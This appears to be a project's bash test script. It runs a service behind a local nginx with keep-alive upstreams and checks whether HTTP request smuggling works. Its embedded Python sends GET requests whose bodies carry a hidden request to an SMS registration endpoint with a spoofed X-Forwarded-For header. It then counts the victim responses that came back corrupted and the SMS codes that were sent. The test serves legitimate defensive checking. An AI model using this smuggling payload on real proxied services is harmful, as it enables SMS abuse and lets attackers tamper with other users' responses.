#!/usr/bin/env bash
# Request smuggling through nginx with upstream keep-alive, loopback only.
# An attacker sends GETs whose bodies hold a request for an SMS code (with an
# X-Forwarded-For of its own); victims ask for /help/audio at the same time
# over the same pooled upstream connections. Counts the victims' answers that
# were not the help page, and the codes that went out.
# Usage: service/bench/behind_nginx.sh <build dir>   (needs nginx: nginx-light)
# SERVICE_BIN=<executable> checks another build.
set -euo pipefail
BUILD=${1:?build dir}
BIN=${SERVICE_BIN:-"$BUILD/bin/velquist-service"}
command -v nginx >/dev/null || { echo "nginx is not installed; skipped"; exit 0; }
WORK=$(mktemp -d)
cleanup() {
  [[ -n "${NGINX_PID:-}" ]] && kill "$NGINX_PID" 2>/dev/null || true
  kill "$PID" 2>/dev/null || true
  wait "$PID" 2>/dev/null || true
  rm -rf "$WORK"
}
trap cleanup EXIT

"$BIN" --listen 127.0.0.1:0 --data-dir "$WORK" --access-log off --trusted-proxies 127.0.0.1 \
  >"$WORK/out" 2>"$WORK/err" &
PID=$!
for _ in $(seq 50); do grep -q 'sms outbox' "$WORK/out" 2>/dev/null && break; sleep 0.1; done
UPSTREAM=$(awk '/listening on/ {print $4}' "$WORK/out" | sed 's#http://##')
FRONT_PORT=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')

mkdir -p "$WORK/nginx/logs"
cat >"$WORK/nginx/nginx.conf" <<EOF
worker_processes 1;
daemon off;
pid $WORK/nginx/nginx.pid;
error_log $WORK/nginx/logs/error.log;
events { worker_connections 1024; }
http {
  access_log off;
  client_body_temp_path $WORK/nginx/body;
  proxy_temp_path $WORK/nginx/proxy;
  upstream velquist { server $UPSTREAM; keepalive 16; }
  server {
    listen 127.0.0.1:$FRONT_PORT;
    location / {
      proxy_pass http://velquist;
      proxy_http_version 1.1;
      proxy_set_header Connection "";
      proxy_set_header X-Forwarded-For \$proxy_add_x_forwarded_for;
      client_max_body_size 16k;
    }
  }
}
EOF
nginx -p "$WORK/nginx" -c "$WORK/nginx/nginx.conf" &
NGINX_PID=$!
for _ in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$FRONT_PORT/help" && break; sleep 0.1; done

python3 - "$FRONT_PORT" <<'EOF'
import socket, sys, threading
port = int(sys.argv[1])
inner = ("GET /v1/smsnotify/register/13800138000 HTTP/1.1\r\nHost: x\r\n"
         "X-Forwarded-For: 203.0.113.9\r\n\r\n")

def ask(raw):
    sock = socket.create_connection(("127.0.0.1", port))
    sock.sendall(raw.encode())
    sock.settimeout(5)
    data = b""
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    sock.close()
    return data

wrong = [0]
def victim():
    for _ in range(50):
        answer = ask("GET /help/audio HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        if b"<html" not in answer:
            wrong[0] += 1

def attacker():
    for _ in range(100):
        ask(f"GET /help/audio HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
            f"Content-Length: {len(inner)}\r\n\r\n{inner}")

threads = [threading.Thread(target=victim) for _ in range(8)]
threads += [threading.Thread(target=attacker) for _ in range(4)]
for t in threads:
    t.start()
for t in threads:
    t.join()
print(f"victims' /help/audio answers that were not the help page: {wrong[0]} of 400")
EOF
CODES=0
[[ -f "$WORK/sms-outbox.txt" ]] && CODES=$(wc -l <"$WORK/sms-outbox.txt")
echo "SMS codes sent: $CODES"
